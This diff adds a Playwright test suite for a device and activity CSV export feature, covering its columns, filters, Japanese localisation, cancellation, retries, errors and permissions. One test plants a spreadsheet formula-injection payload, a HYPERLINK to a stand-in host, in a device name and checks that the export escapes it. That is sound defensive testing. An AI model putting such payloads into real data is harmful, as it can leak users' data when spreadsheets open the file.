@@ -1,0 +1,244 @@
+import { readFile } from 'node:fs/promises';
+import { activity } from '@keyward/contract/activity';
+import { auth } from '@keyward/contract/auth';
+import { devices } from '@keyward/contract/devices';
+import type { Locator, Page, Route } from '@playwright/test';
+import { expectAccessible } from './axe.ts';
+import { callsOf } from './calls.ts';
+import { chooseView, rows, searchFor, totalRows } from './list.ts';
+import { expect, freshState, test } from './people.ts';
+import { newDevice } from './things.ts';
+
+const download = (page: Page): Locator => page.getByRole('button', { name: 'Download CSV' });
+const cancel = (page: Page): Locator => page.getByRole('button', { name: 'Cancel', exact: true });
+const done = 'Check your download history or file system for the CSV.';
+const alert = (page: Page, text: string) => page.getByText(text, { exact: true });
+
+/** The file that a press on the button gives. */
+async function fileOf(page: Page, name = 'Download CSV'): Promise<{ name: string; text: string }> {
+  const [file] = await Promise.all([
+    page.waitForEvent('download'),
+    page.getByRole('button', { name, exact: true }).click(),
+  ]);
+  return { name: file.suggestedFilename(), text: await readFile(await file.path(), 'utf8') };
+}
+
+/** Cells of a file, written plainly from RFC 4180. */
+function cellsOf(text: string): string[][] {
+  expect(text.startsWith('\ufeff')).toBe(true);
+  expect(text.endsWith('\r\n')).toBe(true);
+  const lines: string[][] = [[]];
+  for (const [, quoted, plain = '', end] of text
+    .slice(1, -2)
+    .matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/gy)) {
+    lines.at(-1)?.push(quoted === undefined ? plain : quoted.replaceAll('""', '"'));
+    if (end === '\r\n') lines.push([]);
+    if (end === '') break;
+  }
+  return lines;
+}
+
+/** Answers to the pages of a download go through `handle`; what the list itself asks for passes. */
+const onPages = (page: Page, handle: (route: Route) => Promise<void>) =>
+  page.route(/\/api\/v1\/(devices|events)\?.*results_per_page=5000/, handle);
+
+test('holds what is on screen: the view’s columns and rows, in order, in words', async ({ page }) => {
+  await page.goto('/devices');
+  await totalRows(page);
+  await chooseView(page, 'OKMs');
+  const total = await totalRows(page);
+  const { name, text } = await fileOf(page);
+  await expect(alert(page, done)).toBeVisible();
+  expect(name).toMatch(/^devices-OKMs-\d{4}-\d\d-\d\d\.csv$/);
+  const [header, ...lines] = cellsOf(text);
+  expect(header).toEqual(await page.getByRole('columnheader').allInnerTexts());
+  expect(lines).toHaveLength(total);
+  const shown = await rows(page).first().getByRole('cell').allInnerTexts();
+  expect(lines[0]?.slice(0, 4)).toEqual(shown.slice(0, 4));
+  const reported = lines.map((line) => line.at(-1) ?? '');
+  for (const time of reported.filter((one) => one)) expect(time).toMatch(/^\d\d\/\d\d\/\d{4} \d\d:\d\d:\d\d$/);
+  expect(reported.some((one) => one)).toBe(true);
+  // the message goes by itself
+  await expect(alert(page, done)).toHaveCount(0);
+});
+
+test('follows search and filters; is in the activity once', async ({ page, api }) => {
+  const call = await api('admin');
+  const device = await newDevice(call);
+  await page.goto('/devices');
+  await searchFor(page, device.serial_number);
+  await expect(rows(page)).toHaveCount(1);
+  const { text } = await fileOf(page);
+  expect(
+    cellsOf(text)
+      .slice(1)
+      .map((line) => line.slice(0, 2)),
+  ).toEqual([[device.name, device.serial_number]]);
+  const { data } = await call(activity.list, { query: { event: 'EXPORT_CSV', results_per_page: '200' } });
+  const mine = data.filter(({ description }) =>
+    description.changes.some(({ attribute, newValue }) => attribute === 'search' && newValue === device.serial_number),
+  );
+  expect(mine).toHaveLength(1);
+  expect(mine[0]?.description.agentName).toBe('Alex Morgan');
+});
+
+test('no cell is a formula', async ({ page, api }) => {
+  const call = await api('admin');
+  const device = await newDevice(call);
+  const name = `=HYPERLINK("http://x.example/?${device.serial_number}", "win")`;
+  await call(devices.update, { params: { id: device.id }, ifMatch: device.version, body: { name } });
+  await page.goto(`/devices?search=${device.serial_number}`);
+  await expect(rows(page)).toHaveCount(1);
+  expect(cellsOf((await fileOf(page)).text)[1]?.[0]).toBe(`'${name}`);
+});
+
+test.describe('in Japan', () => {
+  test.use({ locale: 'ja-JP', tenant: 'harbor' });
+
+  test('speaks the language on screen, in the person’s zone', async ({ page }) => {
+    await page.goto('/activity?custom_view=Unauthorized%20Attempts');
+    await expect(rows(page).first()).toBeVisible();
+    const { name, text } = await fileOf(page, 'CSV をダウンロード');
+    expect(name).toMatch(/^activity-.+-\d{4}-\d\d-\d\d\.csv$/);
+    const [header, first] = cellsOf(text);
+    expect(header).toEqual(await page.getByRole('columnheader').allInnerTexts());
+    const cells = await rows(page).first().getByRole('cell').allInnerTexts();
+    expect(first?.[0]?.slice(0, 16)).toBe(cells[0]);
+    expect(first?.slice(1, 3)).toEqual(cells.slice(1, 3));
+  });
+});
+
+test('says that it prepares, and can be cancelled', async ({ page }) => {
+  await page.goto('/devices');
+  const total = await totalRows(page);
+  await onPages(page, () => new Promise(() => {}));
+  await download(page).press('Enter');
+  await expect(page.getByRole('status').filter({ hasText: 'Preparing Devices CSV...' })).toBeVisible();
+  await expect(download(page)).toHaveAttribute('aria-disabled', 'true');
+  await expect(page.getByText(`0 of ${total.toLocaleString('en')} rows · 0%`)).toBeVisible();
+  await expectAccessible(page);
+  // it goes on while other pages are looked at
+  await page.getByRole('link', { name: 'Activity' }).click();
+  await expect(page).toHaveURL(/\/activity/);
+  await expect(download(page)).not.toHaveAttribute('aria-disabled', 'true');
+  await page.getByRole('link', { name: 'Devices' }).click();
+  await cancel(page).press('Enter');
+  await expect(page.getByRole('alert').filter({ hasText: 'Download has been cancelled.' })).toContainText('Failure');
+  await expect(cancel(page)).toHaveCount(0);
+  await expect(download(page)).toBeFocused();
+  await expect(download(page)).not.toHaveAttribute('aria-disabled', 'true');
+});
+
+test('tries a page again before it gives up', async ({ page, problems }) => {
+  problems.expect(/503.*results_per_page=5000/);
+  await page.goto('/devices');
+  await totalRows(page);
+  let asked = 0;
+  await onPages(page, async (route) => {
+    asked++;
+    if (asked === 1) await route.fulfill({ status: 503, json: { errors: [{ code: 'unavailable', detail: 'x' }] } });
+    else await route.continue();
+  });
+  expect(cellsOf((await fileOf(page)).text).length).toBeGreaterThan(100);
+  await expect(alert(page, done)).toBeVisible();
+});
+
+test('says what went wrong, and leaves nothing behind', async ({ page, problems }) => {
+  problems.expect(/500.*results_per_page=5000/, /400.*results_per_page=5000/);
+  await page.goto('/devices');
+  await totalRows(page);
+  const files: string[] = [];
+  page.on('download', (file) => files.push(file.suggestedFilename()));
+  await onPages(page, (route) =>
+    route.fulfill({ status: 500, json: { errors: [{ code: 'internal', detail: 'Internal Server Error' }] } }),
+  );
+  await download(page).click();
+  const failed = page.getByRole('alert').filter({ hasText: /Failed to download devices-Overview-[\d-]+ CSV\./ });
+  await expect(failed).toContainText('Failure');
+  await failed.getByRole('button', { name: 'Close' }).click();
+  await page.unrouteAll();
+  // more records than the customer's limit: here by what the limit is said to be, then by the server's judgement
+  const tooMany = alert(
+    page,
+    'There are too many records to download. Adjust the date range or filters and try again.',
+  );
+  await page.route('**/tenants/config/csvDownloadRecordsLimit', (route) => route.fulfill({ json: { data: 1 } }));
+  await download(page).click();
+  await expect(tooMany).toBeVisible();
+  await page.unrouteAll();
+  await page.getByRole('button', { name: 'Close' }).click();
+  await onPages(page, (route) =>
+    route.fulfill({ status: 400, json: { errors: [{ code: 'csvDownloadRecordsLimitExceeded', detail: 'x' }] } }),
+  );
+  await download(page).click();
+  await expect(tooMany).toBeVisible();
+  expect(files).toEqual([]);
+});
+
+test('a session that ends meanwhile says so', async ({ open, problems }) => {
+  problems.expect(/401.*results_per_page=5000/);
+  const storageState = await freshState('demo', 'admin');
+  const page = await open(null, { storageState });
+  await page.goto('/devices');
+  await totalRows(page);
+  await onPages(page, async (route) => {
+    const [cookie] = storageState.cookies;
+    await callsOf('demo', `${cookie?.name}=${cookie?.value}`)(auth.logout);
+    await route.continue();
+  });
+  await download(page).click();
+  await expect(page).toHaveURL(/\/username/);
+  await expect(page.getByText('Your session has ended. Please sign in again.')).toBeVisible();
+});
+
+test('a long list goes straight to disk, where the person says', async ({ page }) => {
+  // the browser's own dialog cannot be answered from here: the file is one of the browser's private ones
+  await page.addInitScript(() => {
+    let chosen = 0;
+    Object.assign(window, {
+      showSaveFilePicker: async ({ suggestedName }: { suggestedName: string }) => {
+        if (chosen++ === 0) throw new DOMException('The user aborted a request.', 'AbortError');
+        const folder = await navigator.storage.getDirectory();
+        return folder.getFileHandle(suggestedName, { create: true });
+      },
+    });
+  });
+  await page.goto('/activity');
+  const total = await totalRows(page);
+  expect(total).toBeGreaterThan(20_000);
+  // no place chosen: nothing happens
+  await download(page).click();
+  await expect(download(page)).toHaveAttribute('aria-disabled', 'true');
+  await expect(download(page)).not.toHaveAttribute('aria-disabled', 'true');
+  await expect(page.getByRole('alert')).toHaveText(['']);
+  await download(page).click();
+  await expect(alert(page, done)).toBeVisible();
+  const text = await page.evaluate(async () => {
+    const folder = await navigator.storage.getDirectory();
+    for await (const handle of folder.values()) {
+      if (!(handle instanceof FileSystemFileHandle)) continue;
+      const file = await handle.getFile();
+      return new TextDecoder('utf-8', { ignoreBOM: true }).decode(await file.arrayBuffer());
+    }
+    return '';
+  });
+  const lines = cellsOf(text).slice(1);
+  // other tests act meanwhile
+  expect(lines.length).toBeGreaterThanOrEqual(total);
+  expect(lines.length).toBeLessThan(total + 500);
+  expect(lines.every((line) => line.length === 6)).toBe(true);
+});
+
+test.describe('who may not export', () => {
+  test.use({ person: 'clerk' });
+
+  test('sees the button with the reason', async ({ page }) => {
+    await page.goto('/devices');
+    await totalRows(page);
+    await expect(download(page)).toHaveAttribute('aria-disabled', 'true');
+    await download(page).hover();
+    await expect(page.getByRole('tooltip')).toHaveText(/Export devices permission required\./);
+    await download(page).press('Enter');
+    await expect(page.getByText('Preparing Devices CSV...')).toHaveCount(0);
+  });
+});
